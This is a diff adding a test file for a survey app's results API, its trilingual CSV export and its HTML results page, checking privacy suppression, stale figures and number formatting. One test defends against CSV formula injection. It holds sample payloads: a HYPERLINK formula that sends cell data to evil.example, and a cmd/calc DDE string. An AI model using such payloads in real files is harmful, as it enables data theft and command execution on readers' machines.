@@ -1,0 +1,401 @@
+/**
+ * The results (§7) through the real app and SQLite: the JSON snapshot, the CSV in three languages
+ * with spreadsheet formulas neutralised, and the HTML page with its charts, tables, markers and
+ * numbers formatted for the reader's language.
+ */
+import { describe, expect, it } from 'vitest';
+import { createI18n, LOCALES, type Locale } from '../../src/i18n/index.js';
+import type { SurveyDefinition } from '../../src/surveys/definition.js';
+import { elements, text } from '../html.js';
+import { L, makeApp, openSurvey, sampleSurvey, submit, type TestApp } from '../helpers.js';
+
+const i18n = createI18n();
+const tr = (locale: string, key: string, params: Record<string, unknown> = {}) => i18n.getFixedT(locale)(key, params);
+
+const SLUG = 'learning-lab-2026';
+const DAY = '2026-11-27';
+const now = () => new Date(`${DAY}T09:30:00Z`);
+const M = { suppressed: true };
+
+type Answers = Record<string, unknown>;
+const a = (region: string | undefined, speak_freely: number, activities: string[], extra: Answers = {}): Answers => ({
+  ...(region === undefined ? {} : { region }),
+  speak_freely,
+  activities,
+  ...extra,
+});
+
+/**
+ * Twenty responses to sampleSurvey(): africa 8, americas 7, asia 2, prefer_not_to_say 3 (one
+ * chosen, two skipped). speak_freely has a mean of exactly 3.5 overall and in africa; one person
+ * had a visit; only four answered usefulness; six left a comment.
+ */
+const RESPONSES: Answers[] = [
+  a('africa', 5, ['calls', 'visits'], { usefulness: 8, suggestions: 'More peer calls.' }),
+  a('africa', 5, ['calls', 'mentoring'], { usefulness: 9, suggestions: 'Shorter reports.' }),
+  a('africa', 4, ['calls'], { usefulness: 7 }),
+  a('africa', 4, ['mentoring'], { usefulness: 6 }),
+  a('africa', 3, ['calls']),
+  a('africa', 3, ['mentoring'], { suggestions: 'Meet in person.' }),
+  a('africa', 2, ['calls']),
+  a('africa', 2, ['calls', 'mentoring']),
+  a('americas', 5, ['calls'], { suggestions: 'Translate everything.' }),
+  a('americas', 4, ['calls']),
+  a('americas', 4, ['calls']),
+  a('americas', 4, ['calls']),
+  a('americas', 4, ['mentoring']),
+  a('americas', 3, ['mentoring'], { suggestions: 'Fewer forms.' }),
+  a('americas', 3, ['mentoring']),
+  a('asia', 2, ['calls']),
+  a('asia', 5, ['mentoring']),
+  a('prefer_not_to_say', 3, ['calls'], { suggestions: 'Keep the calls.' }),
+  a(undefined, 4, ['calls', 'mentoring']),
+  a(undefined, 1, ['mentoring']),
+];
+
+/** The final release of RESPONSES, as §6 makes it (k = 5, c = 1). */
+const EXPECTED = {
+  survey: SLUG,
+  minGroupSize: 5,
+  releasedAt: DAY,
+  final: true,
+  respondents: { n: 20 },
+  questions: [
+    // Group sizes: asia (2) is hidden, and prefer_not_to_say (3) with it (its complement).
+    { id: 'region', type: 'single_choice', overall: { n: 20, counts: { africa: 8, americas: 7, asia: M, prefer_not_to_say: M } }, breakdowns: {} },
+    {
+      id: 'speak_freely',
+      type: 'likert',
+      overall: { n: 20, counts: { 1: 1, 2: 3, 3: 5, 4: 7, 5: 4 }, mean: 3.5 },
+      breakdowns: {
+        region: [
+          { group: 'africa', n: 8, counts: { 1: 0, 2: 2, 3: 2, 4: 2, 5: 2 }, mean: 3.5 },
+          { group: 'americas', n: 7, counts: { 1: 0, 2: 0, 3: 2, 4: 4, 5: 1 }, mean: 3.86 },
+          { group: 'asia', suppressed: true },
+          { group: 'prefer_not_to_say', suppressed: true },
+        ],
+      },
+    },
+    {
+      id: 'activities',
+      type: 'multi_choice',
+      // One visit: hidden overall, and in every group.
+      overall: { n: 20, counts: { calls: 13, mentoring: 10, visits: M } },
+      breakdowns: {
+        region: [
+          { group: 'africa', n: 8, counts: { calls: 6, mentoring: 4, visits: M } },
+          { group: 'americas', n: 7, counts: { calls: 4, mentoring: 3, visits: M } },
+          { group: 'asia', suppressed: true },
+          { group: 'prefer_not_to_say', suppressed: true },
+        ],
+      },
+    },
+    {
+      id: 'usefulness',
+      type: 'rating',
+      overall: M,
+      breakdowns: { region: ['africa', 'americas', 'asia', 'prefer_not_to_say'].map((group) => ({ group, suppressed: true })) },
+    },
+    { id: 'suggestions', type: 'text', comments: { n: 6 } },
+  ],
+};
+
+async function finalRelease(options: { responses?: Answers[]; definition?: SurveyDefinition } = {}): Promise<TestApp> {
+  const t = await makeApp({}, { now });
+  const definition = options.definition ?? sampleSurvey();
+  await openSurvey(t, definition);
+  for (const answers of options.responses ?? RESPONSES) {
+    const res = await submit(t, definition.slug, { answers });
+    if (res.statusCode !== 201) throw new Error(`submit failed: ${res.statusCode} ${res.body}`);
+  }
+  const closed = await t.app.inject({ method: 'PATCH', url: `/api/surveys/${definition.slug}`, headers: t.as('staff'), payload: { status: 'closed' } });
+  if (closed.statusCode !== 200) throw new Error(`close failed: ${closed.body}`);
+  return t;
+}
+
+const get = (t: TestApp, url: string, headers: Record<string, string> = {}) => t.app.inject({ method: 'GET', url, headers });
+
+/** Every cell object of a results body (respondents, overall, groups, multi-choice option counts, comments). */
+function* cells(body: typeof EXPECTED | Record<string, unknown>): Generator<Record<string, unknown>> {
+  const b = body as { respondents: Record<string, unknown>; questions: Record<string, unknown>[] };
+  yield b.respondents;
+  for (const q of b.questions) {
+    for (const cell of [q.overall, q.comments, ...Object.values((q.breakdowns ?? {}) as Record<string, unknown[]>).flat()]) {
+      if (cell === undefined) continue;
+      const c = cell as Record<string, unknown>;
+      yield c;
+      for (const x of Object.values((c.counts ?? {}) as Record<string, unknown>)) if (typeof x === 'object') yield x as Record<string, unknown>;
+    }
+  }
+}
+
+describe('GET /api/surveys/:slug/results', () => {
+  it('answers 404 with a translated "no results yet" before any release', async () => {
+    const t = await makeApp();
+    await openSurvey(t);
+    await submit(t, SLUG, { answers: RESPONSES[0] });
+    for (const lang of LOCALES) {
+      const res = await get(t, `/api/surveys/${SLUG}/results?lang=${lang}`);
+      expect(res.statusCode).toBe(404);
+      expect(res.json()).toEqual({ statusCode: 404, error: 'no_results_yet', message: tr(lang, 'errors:no_results_yet') });
+      const csv = await get(t, `/api/surveys/${SLUG}/results.csv?lang=${lang}`);
+      expect(csv.statusCode).toBe(404);
+      const page = await get(t, `/s/${SLUG}/results?lang=${lang}`);
+      expect(page.statusCode).toBe(404);
+      expect(text(page.body)).toContain(tr(lang, 'errors:no_results_yet'));
+    }
+    // The three messages really are three languages.
+    expect(new Set(LOCALES.map((l) => tr(l, 'errors:no_results_yet'))).size).toBe(3);
+    // Live figures are never shown instead, and an unknown survey is a plain 404.
+    expect((await get(t, '/api/surveys/nope/results')).json()).toMatchObject({ statusCode: 404, error: 'survey_not_found' });
+  });
+
+  it('answers the released snapshot in the shape of §7, to anyone', async () => {
+    const t = await finalRelease();
+    const res = await get(t, `/api/surveys/${SLUG}/results`);
+    expect(res.statusCode).toBe(200);
+    expect(res.headers['content-type']).toMatch(/^application\/json/);
+    expect(res.json()).toEqual(EXPECTED);
+  });
+
+  it('gives suppressed cells exactly { suppressed: true }, and text questions only a comment count', async () => {
+    const t = await finalRelease();
+    const body = (await get(t, `/api/surveys/${SLUG}/results`)).json() as Record<string, unknown>;
+    let markers = 0;
+    for (const cell of cells(body)) {
+      if (cell.suppressed === undefined) continue;
+      markers++;
+      // No n, counts, mean, percentage or reason beside the marker.
+      const { group: _group, ...rest } = cell;
+      expect(rest).toEqual({ suppressed: true });
+    }
+    expect(markers).toBe(14);
+    const suggestions = (body.questions as Record<string, unknown>[]).find((q) => q.id === 'suggestions')!;
+    expect(Object.keys(suggestions)).toEqual(['id', 'type', 'comments']);
+    // The comments themselves are not part of any release.
+    expect(JSON.stringify(body)).not.toContain('peer calls');
+  });
+
+  it('marks figures kept from an earlier release stale, and only the release made at close final', async () => {
+    const t = await makeApp({}, { now });
+    await openSurvey(t, sampleSurvey({ interimReleases: true }));
+    for (const answers of RESPONSES.slice(0, 10)) await submit(t, SLUG, { answers });
+    expect((await t.app.inject({ method: 'POST', url: `/api/surveys/${SLUG}/release`, headers: t.as('staff') })).json()).toMatchObject({ released: true });
+    const interim = (await get(t, `/api/surveys/${SLUG}/results`)).json();
+    expect(interim).toEqual({
+      survey: SLUG,
+      minGroupSize: 5,
+      releasedAt: DAY,
+      final: false,
+      respondents: { n: 10 },
+      // Overall figures only: no group sizes, no breakdowns, no comments.
+      questions: [
+        { id: 'speak_freely', type: 'likert', overall: { n: 10, counts: { 1: 0, 2: 2, 3: 2, 4: 3, 5: 3 }, mean: 3.7 } },
+        { id: 'activities', type: 'multi_choice', overall: { n: 10, counts: { calls: 8, mentoring: 4, visits: M } } },
+        { id: 'usefulness', type: 'rating', overall: M },
+      ],
+    });
+
+    // Three more, then close: fewer than k were added, so the final release keeps the 10 figures.
+    for (const answers of RESPONSES.slice(10, 13)) await submit(t, SLUG, { answers });
+    await t.app.inject({ method: 'PATCH', url: `/api/surveys/${SLUG}`, headers: t.as('staff'), payload: { status: 'closed' } });
+    const final = (await get(t, `/api/surveys/${SLUG}/results`)).json();
+    expect(final.final).toBe(true);
+    expect(final.respondents).toEqual({ n: 10, stale: true });
+    const speak = final.questions.find((q: { id: string }) => q.id === 'speak_freely');
+    expect(speak.overall).toEqual({ ...interim.questions[0].overall, stale: true });
+    // The page says so in the reader's language.
+    const page = await get(t, `/s/${SLUG}/results?lang=fr`);
+    expect(text(page.body)).toContain(tr('fr', 'results:stale_note'));
+  });
+
+  it('returns byte-identical bodies on every read', async () => {
+    const t = await finalRelease();
+    const first = await get(t, `/api/surveys/${SLUG}/results`);
+    const again = await get(t, `/api/surveys/${SLUG}/results?lang=fr`, t.as('staff'));
+    expect(again.body).toBe(first.body);
+    expect(again.headers.etag).toBe(first.headers.etag);
+  });
+});
+
+// ---------------------------------------------------------------------------------------------
+
+/** A small RFC 4180 reader (csv-stringify quotes with "" and ends records with \n). */
+function parseCsv(csv: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < csv.length; i++) {
+    const ch = csv[i]!;
+    if (quoted) {
+      if (ch === '"' && csv[i + 1] === '"') (cell += '"'), i++;
+      else if (ch === '"') quoted = false;
+      else cell += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ',') row.push(cell), (cell = '');
+    else if (ch === '\n') row.push(cell), rows.push(row), (row = []), (cell = '');
+    else cell += ch;
+  }
+  if (cell !== '' || row.length > 0) row.push(cell), rows.push(row);
+  return rows;
+}
+
+const COLUMNS = ['question_id', 'question', 'breakdown', 'group', 'respondents', 'answer_value', 'answer', 'count', 'percent', 'mean', 'note'];
+const survey = sampleSurvey();
+const prompt = (id: string, lang: Locale) => survey.questions.find((q) => q.id === id)!.prompt[lang];
+const REGION_LABELS = { en: ['Africa', 'Americas', 'Asia'], es: ['África', 'Américas', 'Asia'], fr: ['Afrique', 'Amériques', 'Asie'] } as const;
+
+describe('GET /api/surveys/:slug/results.csv', () => {
+  it('has headers and labels in the language asked for', async () => {
+    const t = await finalRelease();
+    for (const lang of LOCALES) {
+      const res = await get(t, `/api/surveys/${SLUG}/results.csv?lang=${lang}`);
+      expect(res.statusCode).toBe(200);
+      expect(res.headers['content-type']).toMatch(/^text\/csv/);
+      expect(res.headers['content-disposition']).toContain(`-${lang}.csv`);
+      expect(res.body.startsWith('\ufeff')).toBe(true);
+      const rows = parseCsv(res.body.slice(1));
+      expect(rows[0]).toEqual(COLUMNS.map((c) => tr(lang, `results:csv.${c}`)));
+      const marker = tr(lang, 'results:marker');
+      const [africa, , asia] = REGION_LABELS[lang];
+
+      expect(rows).toContainEqual(['', tr(lang, 'results:respondents'), '', '', '20', '', '', '', '', '', '']);
+      // speak_freely overall, answer 4: 7 of 20, mean 3.5.
+      const likert4 = `4 · ${tr(lang, 'form:likert.4')}`;
+      expect(rows).toContainEqual(['speak_freely', prompt('speak_freely', lang), tr(lang, 'results:overall'), '', '20', '4', likert4, '7', '35', '3.5', '']);
+      // By region: africa published, asia the marker.
+      expect(rows).toContainEqual(['speak_freely', prompt('speak_freely', lang), prompt('region', lang), africa, '8', '4', likert4, '2', '25', '3.5', '']);
+      expect(rows).toContainEqual(['speak_freely', prompt('speak_freely', lang), prompt('region', lang), asia, '', '', '', '', '', '', marker]);
+      expect(rows).toContainEqual(['speak_freely', prompt('speak_freely', lang), prompt('region', lang), tr(lang, 'form:prefer_not_to_say'), '', '', '', '', '', '', marker]);
+      // A hidden multi-choice option: the marker, no count.
+      const visits = survey.questions.find((q) => q.id === 'activities')!;
+      const visitsLabel = visits.type === 'multi_choice' ? visits.options[2]!.label[lang] : '';
+      expect(rows).toContainEqual(['activities', prompt('activities', lang), tr(lang, 'results:overall'), '', '20', 'visits', visitsLabel, '', '', '', marker]);
+      expect(rows).toContainEqual(['suggestions', prompt('suggestions', lang), tr(lang, 'results:overall'), '', '', '', tr(lang, 'results:comments'), '6', '', '', '']);
+
+      // Nothing of the other two languages.
+      for (const other of LOCALES.filter((l) => l !== lang)) {
+        expect(res.body).not.toContain(prompt('region', other));
+        expect(res.body).not.toContain(tr(other, 'results:marker'));
+        expect(res.body).not.toContain(tr(other, 'results:csv.breakdown'));
+      }
+    }
+  });
+
+  it('neutralises spreadsheet formulas in every text taken from the definition', async () => {
+    const evil = {
+      hyperlink: '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+      plus: '+SUM(1,2)',
+      minus: '-2+3+cmd|\' /C calc\'!A0',
+      at: '@SUM(1,1)',
+    };
+    const definition: SurveyDefinition = {
+      slug: 'formulas',
+      title: L('Formulas', 'Fórmulas', 'Formules'),
+      questions: [
+        {
+          id: 'pick',
+          type: 'single_choice',
+          prompt: L('=1+1 (en)', '=1+1 (es)', '=1+1 (fr)'),
+          options: Object.entries(evil).map(([value, label]) => ({ value, label: L(label, label, label) })),
+        },
+      ],
+    };
+    const picks = ['hyperlink', 'hyperlink', 'plus', 'plus', 'minus', 'minus', 'at', 'at'];
+    const t = await finalRelease({ definition, responses: picks.map((pick) => ({ pick })) });
+    for (const lang of LOCALES) {
+      const res = await get(t, `/api/surveys/formulas/results.csv?lang=${lang}`);
+      expect(res.statusCode).toBe(200);
+      const rows = parseCsv(res.body.slice(1));
+      const cellsOut = rows.flat();
+      // No cell starts with a character a spreadsheet reads as a formula …
+      for (const cell of cellsOut) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+      // … because each one that did got a leading apostrophe, and is otherwise intact.
+      for (const label of Object.values(evil)) expect(cellsOut).toContain(`'${label}`);
+      expect(cellsOut).toContain(`'=1+1 (${lang})`);
+      // The figures themselves are still there.
+      expect(rows).toContainEqual(['pick', `'=1+1 (${lang})`, tr(lang, 'results:overall'), '', '8', 'hyperlink', `'${evil.hyperlink}`, '2', '25', '', '']);
+    }
+  });
+});
+
+// ---------------------------------------------------------------------------------------------
+
+/** The <section> of each question, by question id. */
+function sections(html: string): Map<string, string> {
+  return new Map([...html.matchAll(/<section aria-labelledby="q-([a-z_]+)">([\s\S]*?)<\/section>/g)].map((m) => [m[1]!, m[2]!]));
+}
+
+/** How many markers the page must show for a results body: one per suppressed figure. */
+function markerCount(body: typeof EXPECTED): number {
+  let n = 0;
+  for (const cell of cells(body)) if (cell.suppressed === true) n++;
+  return n;
+}
+
+describe('GET /s/:slug/results', () => {
+  it('renders the page in the reader\'s language: a chart and a table per question, the marker for every suppressed figure', async () => {
+    const t = await finalRelease();
+    const body = (await get(t, `/api/surveys/${SLUG}/results`)).json() as typeof EXPECTED;
+    for (const lang of LOCALES) {
+      const res = await get(t, `/s/${SLUG}/results?lang=${lang}`);
+      expect(res.statusCode).toBe(200);
+      expect(res.headers['content-type']).toMatch(/^text\/html/);
+      const html = res.body;
+      expect(html).toMatch(new RegExp(`<html[^>]*\\slang="${lang}"`));
+      // No JavaScript.
+      expect(html).not.toMatch(/<script/i);
+
+      const bySection = sections(html);
+      expect([...bySection.keys()]).toEqual(['region', 'speak_freely', 'activities', 'usefulness', 'suggestions']);
+      for (const id of ['region', 'speak_freely', 'activities']) {
+        const section = bySection.get(id)!;
+        expect(text(elements(section, 'h2')[0]!)).toBe(prompt(id, lang));
+        // A bar chart (inline SVG) and the same figures as a table, for screen readers.
+        expect(section, id).toMatch(/<svg[\s>]/);
+        expect(section, id).toMatch(/<table[\s>]/);
+      }
+      // Breakdowns are tables too, with the groups in the reader's language.
+      expect(elements(bySection.get('speak_freely')!, 'table')).toHaveLength(2);
+      expect(text(bySection.get('speak_freely')!)).toContain(REGION_LABELS[lang][0]);
+      // A suppressed overall figure: the marker, no chart.
+      expect(bySection.get('usefulness')!).not.toMatch(/<svg[\s>]/);
+      expect(text(bySection.get('suggestions')!)).toContain(`${tr(lang, 'results:comments_received')} 6`);
+
+      // Every suppressed figure is shown as the one marker, in this language, and nothing else.
+      const marker = tr(lang, 'results:marker');
+      const markers = [...html.matchAll(/<span class="marker">([\s\S]*?)<\/span>/g)].map((m) => text(m[1]!));
+      expect(markers).toHaveLength(markerCount(body));
+      expect(new Set(markers)).toEqual(new Set([marker]));
+    }
+  });
+
+  it('never gives a reason beside a suppressed figure', async () => {
+    const t = await finalRelease();
+    for (const lang of LOCALES) {
+      const html = (await get(t, `/s/${SLUG}/results?lang=${lang}`)).body;
+      // The results themselves: everything after the general "how to read" notice.
+      const results = text(html.slice(html.indexOf('<section aria-labelledby="q-')));
+      // asia and prefer_not_to_say are hidden by rule 1, the visits option by rule 2, usefulness
+      // overall by rule 1 again: the reader sees the same words for each, and no threshold.
+      expect(results).not.toMatch(/fewer than|menos de|moins de|< ?5|\bk\b|threshold|umbral|seuil/i);
+      expect(results).not.toContain(tr(lang, 'results:explain_marker', { marker: tr(lang, 'results:marker'), k: 5 }));
+    }
+  });
+
+  it('formats numbers for the language with Intl: a mean of 3.5 is 3.50 in English, 3,50 in Spanish and French', async () => {
+    const t = await finalRelease();
+    const means = { en: ['3.50', '3.86'], es: ['3,50', '3,86'], fr: ['3,50', '3,86'] } as const;
+    for (const lang of LOCALES) {
+      const html = (await get(t, `/s/${SLUG}/results?lang=${lang}`)).body;
+      const page = text(html);
+      for (const mean of means[lang]) expect(page).toContain(mean);
+      for (const other of LOCALES.filter((l) => l !== lang && means[l][0] !== means[lang][0])) expect(page).not.toContain(means[other][0]);
+      // Percentages (7 of 20 answered 4) and the release day, as Intl writes them (with their
+      // no-break spaces, hence the raw HTML).
+      expect(html).toContain(new Intl.NumberFormat(lang, { style: 'percent', maximumFractionDigits: 0 }).format(0.35));
+      expect(html).toContain(new Intl.DateTimeFormat(lang, { dateStyle: 'long', timeZone: 'UTC' }).format(new Date(`${DAY}T00:00:00Z`)));
+    }
+  });
+});
